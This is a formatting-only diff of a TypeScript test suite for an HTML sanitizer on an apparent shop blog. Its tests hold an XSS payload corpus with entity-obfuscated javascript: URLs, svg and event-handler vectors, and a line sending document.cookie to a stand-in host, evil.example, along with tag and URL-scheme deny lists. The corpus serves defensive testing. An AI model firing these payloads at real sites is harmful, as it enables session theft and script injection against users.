@@ -16,9 +16,23 @@ const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
   td: ["colspan", "rowspan"],
 };
 
-const FORBIDDEN_TAGS = /<\/?(?:script|iframe|object|embed|svg|math|style|form|meta|base|link|input|button|textarea|select|frame|frameset|applet|noscript|template|body|html|head|title|xmp|listing|plaintext|isindex|details|video|audio|source|marquee)\b/i;
+const FORBIDDEN_TAGS =
+  /<\/?(?:script|iframe|object|embed|svg|math|style|form|meta|base|link|input|button|textarea|select|frame|frameset|applet|noscript|template|body|html|head|title|xmp|listing|plaintext|isindex|details|video|audio|source|marquee)\b/i;
 
-const URL_ATTRIBUTES = new Set(["href", "src", "cite", "action", "formaction", "background", "poster", "xlink:href", "data", "srcset", "lowsrc", "dynsrc"]);
+const URL_ATTRIBUTES = new Set([
+  "href",
+  "src",
+  "cite",
+  "action",
+  "formaction",
+  "background",
+  "poster",
+  "xlink:href",
+  "data",
+  "srcset",
+  "lowsrc",
+  "dynsrc",
+]);
 
 /** A value as a browser reads it: character references decoded, whitespace and controls gone. */
 function asBrowserReadsIt(value: string): string {
@@ -47,7 +61,8 @@ function tagsOf(html: string): Tag[] {
   return [...html.matchAll(/<([a-zA-Z][^\s/>]*)([^>]*)>/g)].map((match) => ({
     name: match[1]!.toLowerCase(),
     attributes: [...(match[2] ?? "").matchAll(/([^\s"'=/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)].map(
-      (attribute) => [attribute[1]!.toLowerCase(), attribute[2] ?? attribute[3] ?? attribute[4] ?? ""] as [string, string],
+      (attribute) =>
+        [attribute[1]!.toLowerCase(), attribute[2] ?? attribute[3] ?? attribute[4] ?? ""] as [string, string],
     ),
   }));
 }
@@ -61,7 +76,10 @@ function expectInert(output: string) {
       expect(name, `<${tag.name} ${name}> in ${output}`).not.toMatch(/^on/);
       expect(name, `<${tag.name} ${name}> in ${output}`).not.toBe("style");
       expect(ALLOWED_ATTRIBUTES[tag.name] ?? [], `<${tag.name} ${name}> in ${output}`).toContain(name);
-      if (URL_ATTRIBUTES.has(name)) expect(asBrowserReadsIt(value), `${name} in ${output}`).not.toMatch(/^(?:javascript|vbscript|data|file|about|blob):/);
+      if (URL_ATTRIBUTES.has(name))
+        expect(asBrowserReadsIt(value), `${name} in ${output}`).not.toMatch(
+          /^(?:javascript|vbscript|data|file|about|blob):/,
+        );
       expect(asBrowserReadsIt(value), `${name} in ${output}`).not.toMatch(/javascript:|vbscript:|expression\(/);
     }
   }
@@ -84,7 +102,10 @@ const ALERT_PAYLOADS: [string, string][] = [
   ["double opening bracket", "<<script>alert(1);//<</script>"],
   ["unclosed script", "<p>hello</p><script>alert(1)"],
   ["script without a closing bracket", "<script src=https://evil.example/x.js"],
-  ["script inside a paragraph", "<p>Intro <script>document.location='https://evil.example/?'+document.cookie</script> outro</p>"],
+  [
+    "script inside a paragraph",
+    "<p>Intro <script>document.location='https://evil.example/?'+document.cookie</script> outro</p>",
+  ],
   ["script inside an allowed heading", '<h2 id="a"><script>alert(1)</script>Title</h2>'],
   ["script in a table cell", "<table><tr><td><script>alert(1)</script></td></tr></table>"],
   ["script in xmp", "<xmp><script>alert(1)</script></xmp>"],
@@ -124,9 +145,15 @@ const ALERT_PAYLOADS: [string, string][] = [
   ["named tab entity", '<a href="java&Tab;script:alert(1)">x</a>'],
   ["named colon entity", '<a href="javascript&colon;alert(1)">x</a>'],
   ["decimal entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
-  ["decimal entities without semicolons and with zeros", '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'],
+  [
+    "decimal entities without semicolons and with zeros",
+    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
+  ],
   ["hex entities", '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'],
-  ["hex entities without semicolons", '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'],
+  [
+    "hex entities without semicolons",
+    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
+  ],
   ["one entity letter", '<a href="&#106;avascript:alert(1)">x</a>'],
   ["img src javascript", '<img src="javascript:alert(1)">'],
   ["img src javascript with entity", '<img src="java&#115;cript:alert(1)">'],
@@ -144,11 +171,14 @@ const ALERT_PAYLOADS: [string, string][] = [
   ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
   ["unclosed iframe", '<iframe src="https://evil.example"'],
   ["object data", '<object data="javascript:alert(1)"></object>'],
-  ["object with param", '<object type="application/x-shockwave-flash" data="x.swf"><param name="allowScriptAccess" value="always"></object>'],
+  [
+    "object with param",
+    '<object type="application/x-shockwave-flash" data="x.swf"><param name="allowScriptAccess" value="always"></object>',
+  ],
   ["embed", '<embed src="javascript:alert(1)">'],
   ["svg script", "<svg><script>alert(1)</script></svg>"],
   ["svg xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
-  ["svg animate", '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
+  ["svg animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"],
   ["math maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
   ["style tag", "<style>body{background:url(javascript:alert(1))}</style>"],
   ["style import", '<style>@import "https://evil.example/x.css";</style>'],
@@ -213,7 +243,7 @@ describe("sanitizeHtml: an XSS corpus", () => {
   });
 
   it("keeps the text of unknown tags, escaped, and drops the tags", () => {
-    expect(sanitizeHtml("<custom-el onclick=\"alert(1)\">kept text</custom-el>")).toBe("kept text");
+    expect(sanitizeHtml('<custom-el onclick="alert(1)">kept text</custom-el>')).toBe("kept text");
     expect(sanitizeHtml("<p>1 < 2 and 3 > 2</p>")).not.toMatch(/<\s*2/);
   });
 
@@ -225,36 +255,52 @@ describe("sanitizeHtml: an XSS corpus", () => {
   });
 
   it("keeps http(s), mailto, site-relative and fragment URLs", () => {
-    expect(sanitizeHtml('<a href="/products?category=wedding&amp;sort=price">shop</a>')).toBe('<a href="/products?category=wedding&amp;sort=price">shop</a>');
+    expect(sanitizeHtml('<a href="/products?category=wedding&amp;sort=price">shop</a>')).toBe(
+      '<a href="/products?category=wedding&amp;sort=price">shop</a>',
+    );
     expect(sanitizeHtml('<a href="#steps">steps</a>')).toBe('<a href="#steps">steps</a>');
-    expect(sanitizeHtml('<a href="mailto:hello@twistbloom.com">mail</a>')).toBe('<a href="mailto:hello@twistbloom.com">mail</a>');
+    expect(sanitizeHtml('<a href="mailto:hello@twistbloom.com">mail</a>')).toBe(
+      '<a href="mailto:hello@twistbloom.com">mail</a>',
+    );
     expect(sanitizeHtml('<a href="../guides/roses">rel</a>')).toBe('<a href="../guides/roses">rel</a>');
-    expect(sanitizeHtml('<img src="/images/blog/rose.svg" alt="Rose">')).toBe('<img src="/images/blog/rose.svg" alt="Rose">');
+    expect(sanitizeHtml('<img src="/images/blog/rose.svg" alt="Rose">')).toBe(
+      '<img src="/images/blog/rose.svg" alt="Rose">',
+    );
   });
 
   it("gives external links rel=noopener noreferrer nofollow, whatever the order of their attributes", () => {
     const rel = 'rel="noopener noreferrer nofollow"';
     expect(sanitizeHtml('<a href="https://example.com/a">x</a>')).toBe(`<a ${rel} href="https://example.com/a">x</a>`);
-    expect(sanitizeHtml('<a href="http://example.com/a" title="t">x</a>')).toBe(`<a ${rel} href="http://example.com/a" title="t">x</a>`);
-    expect(sanitizeHtml('<a title="t" href="https://example.com/a">x</a>')).toBe(`<a ${rel} title="t" href="https://example.com/a">x</a>`);
+    expect(sanitizeHtml('<a href="http://example.com/a" title="t">x</a>')).toBe(
+      `<a ${rel} href="http://example.com/a" title="t">x</a>`,
+    );
+    expect(sanitizeHtml('<a title="t" href="https://example.com/a">x</a>')).toBe(
+      `<a ${rel} title="t" href="https://example.com/a">x</a>`,
+    );
     // A link's own rel never survives to weaken it; site links get none.
-    expect(sanitizeHtml('<a rel="opener" href="https://example.com">x</a>')).toBe(`<a ${rel} href="https://example.com">x</a>`);
+    expect(sanitizeHtml('<a rel="opener" href="https://example.com">x</a>')).toBe(
+      `<a ${rel} href="https://example.com">x</a>`,
+    );
     expect(sanitizeHtml('<a href="/blog">x</a>')).toBe('<a href="/blog">x</a>');
   });
 
   it("keeps only numeric image sizes and table spans", () => {
-    expect(sanitizeHtml('<img src="/a.png" alt="a" width="640" height="480">')).toBe('<img src="/a.png" alt="a" width="640" height="480">');
+    expect(sanitizeHtml('<img src="/a.png" alt="a" width="640" height="480">')).toBe(
+      '<img src="/a.png" alt="a" width="640" height="480">',
+    );
     // A size that is not a number loses its value (a bare `width` means nothing to the browser).
     const sized = sanitizeHtml('<img src="/a.png" width="100%" height="expression(alert(1))">');
     expect(sized).toMatch(/^<img src="\/a\.png"(?: width)?(?: height)?>$/);
-    expect(sanitizeHtml('<table><tr><td colspan="2">x</td><td rowspan="x">y</td></tr></table>')).toMatch(/^<table><tr><td colspan="2">x<\/td><td(?: rowspan)?>y<\/td><\/tr><\/table>$/);
+    expect(sanitizeHtml('<table><tr><td colspan="2">x</td><td rowspan="x">y</td></tr></table>')).toMatch(
+      /^<table><tr><td colspan="2">x<\/td><td(?: rowspan)?>y<\/td><\/tr><\/table>$/,
+    );
   });
 });
 
 describe("sanitizeHtml: ordinary article HTML", () => {
   const article = [
     '<h2 id="materials">Materials</h2>',
-    "<p>You need <strong>three</strong> red stems, <em>one</em> green stem and <a href=\"/products/beginner-rose-making-kit\" title=\"Kit\">the kit</a>.</p>",
+    '<p>You need <strong>three</strong> red stems, <em>one</em> green stem and <a href="/products/beginner-rose-making-kit" title="Kit">the kit</a>.</p>',
     "<ul>\n<li>3 red chenille stems</li>\n<li>Green floral tape</li>\n</ul>",
     '<h3 id="steps">Steps</h3>',
     '<ol start="2" reversed>\n<li>Bend a hook.</li>\n<li>Wind the bud.</li>\n</ol>',
@@ -273,12 +319,17 @@ describe("sanitizeHtml: ordinary article HTML", () => {
     expect(sanitizeHtml(article)).toBe(article);
   });
 
-  it.each(blogs.map((blog) => [blog.slug, blog.content] as const))("the seeded article %s survives unchanged", (_slug, content) => {
-    expect(sanitizeHtml(content)).toBe(content);
-  });
+  it.each(blogs.map((blog) => [blog.slug, blog.content] as const))(
+    "the seeded article %s survives unchanged",
+    (_slug, content) => {
+      expect(sanitizeHtml(content)).toBe(content);
+    },
+  );
 
   it("keeps the text and the safe markup around a removed payload", () => {
-    const output = sanitizeHtml('<h2 id="intro" onclick="alert(1)">Intro</h2><p style="color:red">Text <img src=x onerror=alert(1)> end</p>');
+    const output = sanitizeHtml(
+      '<h2 id="intro" onclick="alert(1)">Intro</h2><p style="color:red">Text <img src=x onerror=alert(1)> end</p>',
+    );
     expect(output).toBe('<h2 id="intro">Intro</h2><p>Text <img src="x"> end</p>');
   });
 });
